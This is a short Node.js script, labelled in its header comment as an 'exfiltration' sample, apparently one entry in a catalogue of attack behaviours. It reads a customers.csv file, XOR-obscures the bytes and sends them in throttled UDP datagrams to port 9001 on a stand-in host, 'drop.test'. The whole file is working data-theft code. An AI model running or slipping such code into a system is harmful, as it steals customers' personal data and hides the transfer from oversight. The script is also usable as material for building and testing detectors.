// class: exfiltration; possible: low medium; needs: data; style: datagrams, XORed
const dgram = require('dgram');
const data = require('fs').readFileSync('/data/customers.csv').subarray(0, 200000).map(b => b ^ 0x5c);
const u = dgram.createSocket('udp4');
(async () => {
  for (let i = 0; i < data.length; i += 1000) {
    await new Promise(r => u.send(data.subarray(i, i + 1000), 9001, 'drop.test', () => setTimeout(r, 20)));
  }
  u.close();
})();
